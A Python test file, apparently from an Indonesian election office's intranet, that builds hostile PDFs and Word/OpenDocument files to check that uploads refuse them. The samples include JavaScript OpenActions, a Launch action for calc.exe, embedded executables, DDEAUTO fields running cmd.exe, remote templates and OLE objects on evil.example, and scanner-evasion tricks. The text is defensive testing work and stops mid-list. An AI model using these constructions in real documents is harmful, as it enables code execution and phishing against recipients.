"""Active content in uploaded PDFs, Word and OpenDocument files is refused on every path.

The hostile files are built here with pikepdf (compressed into object streams, so no byte
scan could see them) and sent through the four upload paths: the agenda book, an imported
.eml's attachments, an older paper record's scans and the SK Tim scan. A refused file leaves
no row and no stored file; benign files of the same shape are still accepted.
"""

import email
import io
import zipfile
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array
from pikepdf import Dictionary
from pikepdf import Name
from pikepdf import String

from archive.models import ArchiveRecord
from archive.store import archive_store
from intranet import uploads
from intranet.extensions import db
from intranet.models import SourceFile
from intranet.models import TeamDecree
from intranet.uploads import DOCX
from intranet.uploads import ODT
from intranet.uploads import PDF
from intranet.uploads import SOURCE_TYPES
from intranet.uploads import UploadError
from intranet.uploads import check_bytes_stream
from tests.app.test_csrf import snapshot
from tests.intranet.test_admin import decree_form
from tests.intranet.test_intake import form_material

MB = 2**20


# building PDFs


def _save(pdf):
    buf = io.BytesIO()
    pdf.save(
        buf,
        compress_streams=True,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    return buf.getvalue()


def _pdf(change=None):
    """A one-page PDF, changed by ``change(pdf, page)``, with objects in compressed streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(pdf, pdf.pages[0].obj)
    return _save(pdf)


def _script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('Warta');"))


def _annotate(page, annotation):
    annotation = Dictionary(Type=Name.Annot, Rect=Array([72, 72, 200, 100]), **annotation)
    page.Annots = Array([*page.get("/Annots", Array()), annotation])


def _link(page, action):
    _annotate(page, {"Subtype": Name.Link, "A": action})


def _file_spec(pdf):
    stream = pikepdf.Stream(pdf, b"MZ\x90\x00" + b"\0" * 60, Type=Name.EmbeddedFile)
    return Dictionary(
        Type=Name.Filespec, F=String("setup.exe"), EF=Dictionary(F=pdf.make_indirect(stream))
    )


def _open_script(pdf, page):
    pdf.Root.OpenAction = _script()


def _launch(pdf, page):
    _link(page, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))


def _script_name_tree(pdf, page):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("buka"), pdf.make_indirect(_script())]))
    )


def _script_link(pdf, page):
    _link(page, _script())


def _embedded_exe(pdf, page):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\0" * 60)


def _embedded_file_stream(pdf, page):
    # a bare embedded-file stream hung where no names tree points: still refused
    stream = pikepdf.Stream(pdf, b"MZ\x90\x00" + b"\0" * 60, Type=Name.EmbeddedFile)
    pdf.Root.Lampiran = Array([pdf.make_indirect(stream)])


def _file_attachment(pdf, page):
    spec = _file_spec(pdf)
    del spec["/EF"]  # the annotation type alone is refused
    _annotate(page, {"Subtype": Name.FileAttachment, "FS": spec})


def _goto_unc(pdf, page):
    _link(
        page,
        Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit])),
    )


def _uri_unc(pdf, page):
    _link(page, Dictionary(S=Name.URI, URI=String("\\\\evil\\share\\x.pdf")))


def _uri_file(pdf, page):
    _link(page, Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe")))


def _page_additional_actions(pdf, page):
    page.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))


def _opens_a_web_page(pdf, page):
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://contoh.example/lacak"))


def _submit_form(pdf, page):
    field = Dictionary(
        FT=Name.Btn,
        T=String("kirim"),
        A=Dictionary(S=Name.SubmitForm, F=String("https://x.example")),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def _xfa(pdf, page):
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(xfa))


def _rich_media(pdf, page):
    _annotate(page, {"Subtype": Name.RichMedia, "Contents": String("video")})


def _script_deep_in_arrays(pdf, page):
    nested = _script()
    for _ in range(200):
        nested = Array([nested])
    page.Lain = nested


def _script_behind_a_cycle(pdf, page):
    a = pdf.make_indirect(Dictionary(Nama=String("a")))
    b = pdf.make_indirect(Dictionary(Nama=String("b"), Balik=a))
    a.Lanjut = b
    b.Skrip = Array([_script()])
    page.Siklus = a


def _script_in_next_action(pdf, page):
    _link(page, Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=_script()))


#: (id, how the PDF is made hostile, the message)
HOSTILE_PDFS = [
    ("OpenAction script", _open_script, "berisi JavaScript (/OpenAction)"),
    ("Launch action", _launch, "berisi perintah menjalankan program (/Launch)"),
    ("JavaScript name tree", _script_name_tree, "berisi JavaScript (/Names)"),
    ("JavaScript link", _script_link, "berisi JavaScript (/Annots)"),
    ("embedded exe", _embedded_exe, "berisi berkas sisipan (/EF)"),
    ("embedded file stream", _embedded_file_stream, "berisi berkas sisipan (/EmbeddedFile)"),
    ("FileAttachment", _file_attachment, "berisi berkas sisipan (/FileAttachment)"),
    ("GoToR to UNC", _goto_unc, "berisi tautan ke berkas lain (/GoToR)"),
    ("URI to UNC", _uri_unc, "berisi tautan ke berkas lokal atau jaringan (/URI)"),
    ("URI to file", _uri_file, "berisi tautan ke berkas lokal atau jaringan (/URI)"),
    ("page AA", _page_additional_actions, "berisi tindakan otomatis (/AA)"),
    ("OpenAction URI", _opens_a_web_page, "berisi tindakan otomatis (/OpenAction)"),
    (
        "SubmitForm",
        _submit_form,
        "berisi formulir yang mengirim atau memuat data (/SubmitForm)",
    ),
    ("XFA", _xfa, "berisi formulir XFA (/XFA)"),
    ("RichMedia", _rich_media, "berisi media aktif (/RichMedia)"),
    ("script deep in arrays", _script_deep_in_arrays, "berisi JavaScript (/Lain)"),
    ("script behind a cycle", _script_behind_a_cycle, "berisi JavaScript (/Skrip)"),
    ("script in Next", _script_in_next_action, "berisi JavaScript (/Annots)"),
]
IDS = [h[0] for h in HOSTILE_PDFS]


def _https_link(pdf, page):
    _link(page, Dictionary(S=Name.URI, URI=String("https://kpu-cilacapkab.go.id/")))
    _link(page, Dictionary(S=Name.URI, URI=String("mailto:humas@kpu-cilacapkab.go.id")))


def _open_at_destination(pdf, page):
    pdf.Root.OpenAction = Array([page, Name.Fit])


def _open_with_goto(pdf, page):
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page, Name.XYZ, 0, 842, 1]))


def _outline(pdf, page):
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Halaman 1", 0))


def _benign_cycle(pdf, page):
    a = pdf.make_indirect(Dictionary(Nama=String("a")))
    a.Diri = a
    page.Siklus = a


BENIGN_PDFS = [
    ("plain", None),
    ("https and mailto links", _https_link),
    ("OpenAction destination", _open_at_destination),
    ("OpenAction GoTo", _open_with_goto),
    ("outline", _outline),
    ("reference cycle", _benign_cycle),
]


def refusal(data, name="surat.pdf"):
    with pytest.raises(UploadError) as e:
        check_bytes_stream(io.BytesIO(data), name, SOURCE_TYPES, 10 * MB)
    return str(e.value), e.value.status


def accepted(data, name="surat.pdf"):
    return check_bytes_stream(io.BytesIO(data), name, SOURCE_TYPES, 10 * MB).mimetype


def test_the_hostile_pdfs_hide_their_names_from_a_byte_scan():
    for _, change, _ in HOSTILE_PDFS:
        data = _pdf(change)
        assert b"/JavaScript" not in data and b"/Launch" not in data and b"/AA" not in data


@pytest.mark.parametrize("change, reason", [h[1:] for h in HOSTILE_PDFS], ids=IDS)
def test_active_pdf_content_is_refused_naming_it(change, reason):
    assert refusal(_pdf(change)) == (f"Berkas PDF ditolak: {reason}.", 400)


@pytest.mark.parametrize("change", [b[1] for b in BENIGN_PDFS], ids=[b[0] for b in BENIGN_PDFS])
def test_benign_pdfs_are_accepted(change):
    assert accepted(_pdf(change)) == PDF


def test_the_node_budget_refuses_an_oversized_pdf(monkeypatch):
    data = _pdf(_https_link)
    assert accepted(data) == PDF
    monkeypatch.setattr(uploads, "PDF_MAX_NODES", 5)
    assert refusal(data) == ("Berkas PDF terlalu rumit.", 400)


# the four paths


def _stored(app):
    return [p for p in Path(app.config["FILES_DIR"]).rglob("*") if p.is_file()]


def _archived(app):
    with app.app_context():
        return list(archive_store().walk())


@pytest.mark.parametrize("change, reason", [h[1:] for h in HOSTILE_PDFS], ids=IDS)
def test_agenda_upload_refuses_active_pdfs(app, login, change, reason):
    c = login("kontributor")
    before = snapshot(app)
    files = [(io.BytesIO(_pdf()), "baik.pdf"), (io.BytesIO(_pdf(change)), "undangan.pdf")]
    r = c.post(
        "/intranet/agenda/baru", data=form_material(files=files), content_type="multipart/form-data"
    )
    assert r.status_code == 400
    assert f"undangan.pdf: Berkas PDF ditolak: {reason}." in r.get_data(as_text=True)
    assert snapshot(app) == before
    assert _stored(app) == []


@pytest.mark.parametrize("change", [b[1] for b in BENIGN_PDFS], ids=[b[0] for b in BENIGN_PDFS])
def test_agenda_upload_accepts_benign_pdfs(app, login, change):
    data = _pdf(change)
    files = [(io.BytesIO(data), "undangan.pdf")]
    r = login("kontributor").post(
        "/intranet/agenda/baru", data=form_material(files=files), content_type="multipart/form-data"
    )
    assert r.status_code == 302, r.get_data(as_text=True)[-1500:]
    assert [p.read_bytes() for p in _stored(app)] == [data]


def _eml_with(attachment):
    msg = EmailMessage()
    msg["From"] = "Humas Dinas Kominfo Cilacap <humas@kominfo-cilacap.example>"
    msg["Subject"] = "Undangan rapat koordinasi"
    msg["Date"] = "Fri, 20 Nov 2026 09:30:00 +0700"
    msg.set_content("Dengan hormat, terlampir undangan rapat.")
    msg.add_attachment(attachment, maintype="application", subtype="pdf", filename="undangan.pdf")
    return msg.as_bytes()


@pytest.mark.parametrize("change, reason", [h[1:] for h in HOSTILE_PDFS], ids=IDS)
def test_eml_import_drops_active_pdf_attachments(app, login, change, reason):
    hostile = _pdf(change)
    r = login("kontributor").post(
        "/intranet/agenda/impor-eml",
        data={
            "eml": (io.BytesIO(_eml_with(hostile)), "undangan.eml"),
            "category_id": "1",
            "sifat": "biasa",
            "security_class": "biasa",
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert r.status_code == 200
    note = f"undangan.pdf: Berkas PDF ditolak: {reason}."
    assert f"Lampiran dilewati: {note}" in r.get_data(as_text=True)
    with app.app_context():
        files = db.session.execute(db.select(SourceFile)).scalars().all()
        assert [(f.origin, f.mimetype) for f in files] == [("eml", "message/rfc822")]
    [stored] = _stored(app)
    kept = email.message_from_bytes(stored.read_bytes(), policy=policy.default)
    parts = [p for p in kept.walk() if not p.is_multipart()]
    assert f"Lampiran ini dihapus oleh Warta: {note}\n" in [p.get_content() for p in parts]
    assert all(p.get_content_type() == "text/plain" for p in parts)
    assert hostile not in stored.read_bytes()


def test_eml_import_keeps_a_benign_pdf_attachment(app, login):
    data = _pdf(_https_link)
    r = login("kontributor").post(
        "/intranet/agenda/impor-eml",
        data={
            "eml": (io.BytesIO(_eml_with(data)), "undangan.eml"),
            "category_id": "1",
            "sifat": "biasa",
            "security_class": "biasa",
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 302
    assert data in [p.read_bytes() for p in _stored(app)]


def _manual(scan):
    return {
        "title": "Berita acara rapat pleno 2019",
        "classification_id": "4",
        "uraian": "Berita acara rapat pleno terbuka rekapitulasi hasil Pemilu 2019.",
        "date_from": "2019-05-01",
        "date_to": "2019-05-03",
        "tingkat": "asli",
        "access_class": "biasa",
        "jumlah": "1 berkas",
        "notes": "",
        "hardcopy_status": "disimpan",
        "room": "Gudang",
        "cabinet": "Rak 1",
        "box": "2019-01",
        "folder": "3",
        "scans": [scan],
    }


@pytest.mark.parametrize("change, reason", [h[1:] for h in HOSTILE_PDFS], ids=IDS)
def test_manual_archive_record_refuses_active_scans(app, login, change, reason):
    c = login("arsiparis")
    before = snapshot(app)
    r = c.post(
        "/arsip/baru",
        data=_manual((io.BytesIO(_pdf(change)), "pindaian.pdf")),
        content_type="multipart/form-data",
    )
    assert r.status_code == 400
    assert f"pindaian.pdf: Berkas PDF ditolak: {reason}." in r.get_data(as_text=True)
    assert snapshot(app) == before
    assert _archived(app) == []


def test_manual_archive_record_accepts_a_benign_scan(app, login):
    r = login("arsiparis").post(
        "/arsip/baru",
        data=_manual((io.BytesIO(_pdf(_open_at_destination)), "pindaian.pdf")),
        content_type="multipart/form-data",
    )
    assert r.status_code == 302, r.get_data(as_text=True)[-1500:]
    with app.app_context():
        assert db.session.execute(db.select(ArchiveRecord)).scalar_one()


@pytest.mark.parametrize("change, reason", [h[1:] for h in HOSTILE_PDFS], ids=IDS)
def test_sk_scan_refuses_active_pdfs(app, login, change, reason):
    c = login("admin")
    before = snapshot(app)
    r = c.post(
        "/intranet/admin/sk",
        data=decree_form(scan=(io.BytesIO(_pdf(change)), "SK Tim.pdf")),
        content_type="multipart/form-data",
    )
    assert r.status_code == 400
    assert f"Berkas PDF ditolak: {reason}." in r.get_data(as_text=True)
    assert snapshot(app) == before


def test_sk_scan_accepts_a_benign_pdf(app, login):
    r = login("admin").post(
        "/intranet/admin/sk",
        data=decree_form(scan=(io.BytesIO(_pdf(_outline)), "SK Tim.pdf")),
        content_type="multipart/form-data",
    )
    assert r.status_code == 302, r.get_data(as_text=True)[-1500:]
    with app.app_context():
        numbers = db.session.execute(db.select(TeamDecree.number)).scalars().all()
        assert "12/HM.02-Kpt/3301/2026" in numbers


# Word and OpenDocument files

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def _zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if name == "mimetype":
                z.writestr(zipfile.ZipInfo("mimetype"), data)
            else:
                z.writestr(name, data)
    return buf.getvalue()


def _rels(*relationships):
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{R}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, (kind, target, external) in enumerate(relationships, 1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{body}</Relationships>'


def _docx(body="<w:p><w:r><w:t>Undangan rapat</w:t></w:r></w:p>", rels=(), types=DOCX_TYPES):
    members = [
        ("[Content_Types].xml", types),
        (
            "_rels/.rels",
            _rels(("officeDocument", "word/document.xml", False)),
        ),
        (
            "word/document.xml",
            f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>',
        ),
    ]
    if rels:
        members.append(("word/_rels/document.xml.rels", _rels(*rels)))
    return _zip(members)


def _field(*pieces):
    """A complex field whose instruction is split over several runs, as Word writes it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _nested(*pieces):
    """A complex field from ``pieces``: instruction text, or a field nested in the instruction.

    A nested field is a ``(instruction, result)`` pair, or a ``w:fldSimple`` given as markup.
    """

    def chars(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def instruction(text, tag="w:instrText"):
        return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'

    runs = ""
    for piece in pieces:
        if isinstance(piece, tuple):
            code, result = piece
            runs += chars("begin") + instruction(code) + chars("separate")
            runs += f"<w:r><w:t>{result}</w:t></w:r>" + chars("end")
        elif piece.startswith("<"):
            runs += piece
        else:
            runs += instruction(piece)
    result = chars("separate") + "<w:r><w:t>x</w:t></w:r>" + chars("end")
    return f"<w:p>{chars('begin')}{runs}{result}</w:p>"


def _rewritten(package, name, change):
    """``package`` (the bytes of a zip) with member ``name`` replaced by ``change(its bytes)``."""
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        members = [(n, z.read(n)) for n in z.namelist()]
    return _zip([(n, change(data) if n == name else data) for n, data in members])


def _utf16(data, codec="utf-16"):
    """An XML part in UTF-16 with its byte-order mark, as OPC and ODF allow."""
    text = data.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    bom = b"\xfe\xff" if codec == "utf-16-be" else b""
    return bom + text.encode(codec)


def _padded(data):
    """An XML part without its declaration behind 200 blanks (well-formed XML)."""
    return b" " * 200 + data.replace(b'<?xml version="1.0"?>', b"")


CMD = "\\\\".join(  # Word doubles the backslashes of a path in a field
    ["C:", "Programs", "Microsoft", "Office", "MSWord.exe", *[".."] * 4, "windows", "system32"]
    + ["cmd.exe"]
)
RELS = "word/_rels/document.xml.rels"
OLE_RELS = [("oleObject", "https://evil.example/x.rtf", True)]
TEMPLATE_RELS = [("attachedTemplate", "https://evil.example/t.dotm", True)]
MACRO_TYPES = DOCX_TYPES.replace(
    "officedocument.wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
)
LISTENER = (
    '<office:event-listeners><script:event-listener script:event-name="dom:load"'
    ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
)


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _odt(text="<text:p>Undangan rapat</text:p>", meta="", manifest=""):
    members = [
        ("mimetype", ODT),
        (
            "content.xml",
            f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body>'
            f"<office:text>{text}</office:text></office:body></office:document-content>",
        ),
    ]
    if meta:
        members.append(
            (
                "meta.xml",
                f'<?xml version="1.0"?><office:document-meta {ODF_NS}><office:meta>{meta}'
                "</office:meta></office:document-meta>",
            )
        )
    if manifest:
        members.append(("META-INF/manifest.xml", manifest))
    return members


#: (id, name, the file, the message)
HOSTILE_DOCUMENTS = [
    (
        "remote template",
        "surat.docx",
        lambda: _docx(rels=[("attachedTemplate", "https://evil.example/t.dotm", True)]),
        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
    ),
    (
        "template on a UNC share",
        "surat.docx",
        lambda: _docx(rels=[("attachedTemplate", "\\\\evil\\share\\t.dotm", True)]),
        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
    ),
    (
        "template on file://host",
        "surat.docx",
        lambda: _docx(rels=[("attachedTemplate", "file://evil/share/t.dotm", True)]),
        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
    ),
    (
        "remote OLE object",
        "surat.docx",
        lambda: _docx(rels=[("oleObject", "https://evil.example/x.rtf", True)]),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
    ),
    (
        "OLE object in a renamed part",
        "surat.docx",
        lambda: _docx(rels=[("oleObject", "media/image9.png", False)]),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
    ),
    (
        "remote frame",
        "surat.docx",
        lambda: _docx(rels=[("frame", "https://evil.example/f.html", True)]),
        "Dokumen ditolak: berisi tautan eksternal (frame).",
    ),
    (
        "image linked from a URL",
        "surat.docx",
        lambda: _docx(rels=[("image", "https://evil.example/pixel.png", True)]),
        "Dokumen ditolak: berisi tautan eksternal (image).",
    ),
    (
        "remote subdocument",
        "surat.docx",
        lambda: _docx(rels=[("subDocument", "\\\\evil\\share\\bab.docx", True)]),
        "Dokumen ditolak: berisi tautan eksternal (subDocument).",
    ),
    (
        "hyperlink to a UNC path",
        "surat.docx",
        lambda: _docx(rels=[("hyperlink", "file://evil/share/x.pdf", True)]),
        "Dokumen ditolak: berisi tautan eksternal (hyperlink).",
    ),
    (
        "w:object",
        "surat.docx",
        lambda: _docx("<w:p><w:r><w:object/></w:r></w:p>"),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:object).",
    ),
    (
        "o:OLEObject under another prefix",
        "surat.docx",
        lambda: _docx(
            '<w:p><w:r><x:OLEObject xmlns:x="urn:schemas-microsoft-com:office:office"'
            ' Type="Link" ProgID="Package"/></w:r></w:p>'
        ),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (o:OLEObject).",
    ),
    (
        "ActiveX control",
        "surat.docx",
        lambda: _docx('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:control).",
    ),
    (
        "DDEAUTO split over runs",
        "surat.docx",
        lambda: _docx(_field(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"')),
        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
    ),
    (
        "DDE simple field",
        "surat.docx",
        lambda: _docx(
            '<w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        ),
        "Dokumen ditolak: berisi perintah DDE (DDE).",
    ),
    (
        "INCLUDEPICTURE from a UNC path",
        "surat.docx",
        lambda: _docx(_field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" \\d ')),
        "Dokumen ditolak: berisi tautan eksternal (INCLUDEPICTURE).",
    ),
    (
        "macro-enabled document named .docx",
        "surat.docx",
        lambda: _docx(
            types=DOCX_TYPES.replace(
                "officedocument.wordprocessingml.document.main+xml",
                "ms-word.document.macroEnabled.main+xml",
            )
        ),
        "Dokumen ditolak: berisi makro (macroEnabled).",
    ),
    (
        "macro project in a renamed part",
        "surat.docx",
        lambda: _docx(rels=[("vbaProject", "media/image1.png", False)]),
        "Dokumen ditolak: berisi makro (vbaProject).",
    ),
    (
        "entity expansion",
        "surat.docx",
        lambda: _zip(
            [
                ("[Content_Types].xml", DOCX_TYPES),
                (
                    "word/document.xml",
                    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
                    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>',
                ),
            ]
        ),
        "Dokumen rusak.",
    ),
    (
        "OLE object in an ODT",
        "surat.odt",
        lambda: _zip(_odt('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>')),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (draw:object-ole).",
    ),
    (
        "ODT object from a server",
        "surat.odt",
        lambda: _zip(
            _odt('<draw:frame><draw:object xlink:href="https://evil.example/x.odt"/></draw:frame>')
        ),
        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
    ),
    (
        "ODT image on a UNC share",
        "surat.odt",
        lambda: _zip(
            _odt('<draw:frame><draw:image xlink:href="\\\\evil\\share\\x.png"/></draw:frame>')
        ),
        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
    ),
    (
        "ODT image outside the package",
        "surat.odt",
        lambda: _zip(_odt('<draw:frame><draw:image xlink:href="../../x.png"/></draw:frame>')),
        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
    ),
    (
        "ODT link to a local file",
        "surat.odt",
        lambda: _zip(_odt('<text:p><text:a xlink:href="file:///etc/passwd">x</text:a></text:p>')),
        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
    ),
    (
        "ODT event listener",
        "surat.odt",
        lambda: _zip(
            _odt(
                '<office:event-listeners><script:event-listener script:event-name="dom:load"'
                ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
                "</office:event-listeners>"
            )
        ),
        "Dokumen ditolak: berisi skrip (script:event-listener).",
    ),
    (
        "ODT inline script under another prefix",
        "surat.odt",
        lambda: _zip(
            _odt(
                '<o:scripts xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
                '<o:script script:language="ooo:Basic"/></o:scripts>'
            )
        ),
        "Dokumen ditolak: berisi skrip (office:script).",
    ),
    (
        "ODT DDE connection",
        "surat.odt",
        lambda: _zip(_odt('<text:dde-connection-decl text:name="x"/>')),
        "Dokumen ditolak: berisi perintah DDE (text:dde-connection-decl).",
    ),
    (
        "ODT template on a UNC share",
        "surat.odt",
        lambda: _zip(_odt(meta='<meta:template xlink:href="\\\\evil\\share\\t.ott"/>')),
        "Dokumen ditolak: berisi tautan eksternal (meta:template).",
    ),
    (
        "ODT encrypted parts",
        "surat.odt",
        lambda: _zip(
            _odt(
                manifest='<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml">'
                "<m:encryption-data/></m:file-entry></m:manifest>"
            )
        ),
        "Dokumen terenkripsi tidak dapat diterima.",
    ),
    (
        "UTF-16 relationships with a remote OLE object",
        "surat.docx",
        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, _utf16),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
    ),
    (
        "UTF-16BE relationships with a remote template",
        "surat.docx",
        lambda: _rewritten(_docx(rels=TEMPLATE_RELS), RELS, lambda d: _utf16(d, "utf-16-be")),
        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
    ),
    (
        "relationships after 200 blanks",
        "surat.docx",
        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, _padded),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
    ),
    (
        "UTF-16 macro-enabled content types",
        "surat.docx",
        lambda: _rewritten(_docx(types=MACRO_TYPES), "[Content_Types].xml", _utf16),
        "Dokumen ditolak: berisi makro (macroEnabled).",
    ),
    (
        "UTF-16 part under a name that is not XML",
        "surat.docx",
        lambda: _zip(
            [
                ("[Content_Types].xml", DOCX_TYPES),
                ("word/document.xml", f"<w:document {W}><w:body/></w:document>"),
                ("word/isi.dat", _utf16(f"<w:p {W}><w:r><w:object/></w:r></w:p>".encode())),
            ]
        ),
        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:object).",
    ),
    (
        "UTF-16 ODT content with an event listener",
        "surat.odt",
        lambda: _rewritten(_zip(_odt(LISTENER)), "content.xml", _utf16),
        "Dokumen ditolak: berisi skrip (script:event-listener).",
    ),
    (
        "ODT content after 200 blanks with a DDE connection",
        "surat.odt",
        lambda: _rewritten(
            _zip(_odt('<text:dde-connection-decl text:name="x"/>')), "content.xml", _padded
        ),
        "Dokumen ditolak: berisi perintah DDE (text:dde-connection-decl).",
    ),
    (
        "blanks before the XML declaration",
        "surat.docx",
        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, lambda d: b" " * 200 + d),
        f"Dokumen ditolak: bagian XML {RELS} tidak dapat dibaca.",
    ),
    (
        "XML part that is not well-formed",
        "surat.docx",
        lambda: _rewritten(_docx(), "word/document.xml", lambda d: d[:-20]),
        "Dokumen ditolak: bagian XML word/document.xml tidak dapat dibaca.",
    ),
    (
        "UTF-16 relationships that are not well-formed",
        "surat.docx",
        lambda: _rewritten(
            _docx(rels=[("image", "media/image1.png", False)]), RELS, lambda d: _utf16(d)[:-4]
        ),
        f"Dokumen ditolak: bagian XML {RELS} tidak dapat dibaca.",
    ),
    (
        "DDEAUTO spelt by a nested QUOTE",
        "surat.docx",
        lambda: _docx(
            _nested(" ", ("QUOTE 68 68 69 65 85 84 79", "DDEAUTO"), f' "{CMD}" "/k calc" ')
        ),
        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (w:fldChar).",
    ),
    (
        "field name finished by a nested field",
        "surat.docx",
        lambda: _docx(_nested(" INCLUDE", ("REF akhir", "TEXT"), ' "\\\\evil\\x.docx" ')),
        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (w:fldChar).",
    ),
    (
        "QUOTE nested after a field name",
        "surat.docx",
        lambda: _docx(_nested(" SET perintah ", ("QUOTE 68 68 69", "DDE"), " ")),
        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (QUOTE).",
    ),
    (
        "QUOTE simple field nested in an instruction",
        "surat.docx",
        lambda: _docx(_nested(" SET perintah ", '<w:fldSimple w:instr=" QUOTE 68 68 69 "/>', " ")),
        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (QUOTE).",
    ),
    (
        "deleted DDEAUTO instruction",
        "surat.docx",
        lambda: _docx(
            _nested(
                '<w:del w:id="1" w:author="x"><w:r><w:delInstrText xml:space="preserve">'
                f' DDEAUTO "{CMD}" "/k calc" </w:delInstrText></w:r></w:del>'
            )
        ),
        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
    ),
    (
        "DDEAUTO simple field with a quoted name",
        "surat.docx",
        lambda: _docx(
            f'<w:fldSimple w:instr=\' "DDEAUTO" "{CMD}" "/k calc" \'><w:r><w:t>x</w:t></w:r>'
            "</w:fldSimple>"
        ),
        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
    ),
    (
        "DDEAUTO behind 5,000 blanks",
        "surat.docx",
        lambda: _docx(_field(" " * 5000, f'DDEAUTO "{CMD}" "/k calc" ')),
        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
    ),
]
DOC_IDS = [h[0] for h in HOSTILE_DOCUMENTS]

BENIGN_DOCUMENTS = [
